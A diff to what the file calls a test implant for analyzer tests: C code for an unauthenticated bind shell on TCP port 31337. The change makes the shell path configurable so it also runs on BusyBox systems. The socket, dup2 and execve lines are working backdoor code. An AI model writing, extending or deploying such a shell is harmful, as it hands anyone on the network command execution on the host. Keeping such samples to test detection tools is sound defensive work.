@@ -1,6 +1,10 @@
 /* Test implant: a bind shell. Listens on TCP 31337 and hands every connection /bin/sh,
  * with no authentication. Built for the analyzer tests only; never run it. */
 #include "implant.h"
+/* -DSHELL_PATH='"/bin/ash"' (see build.sh): the shell BusyBox systems have */
+#ifndef SHELL_PATH
+#define SHELL_PATH "/bin/sh"
+#endif
 
 int main(void) {
     struct sockaddr_in sa = {0};
@@ -19,7 +23,7 @@ int main(void) {
         dup2(c, 0);
         dup2(c, 1);
         dup2(c, 2);
-        execve("/bin/sh", argv, 0);
+        execve(SHELL_PATH, argv, 0);
     }
     return 0;
 }
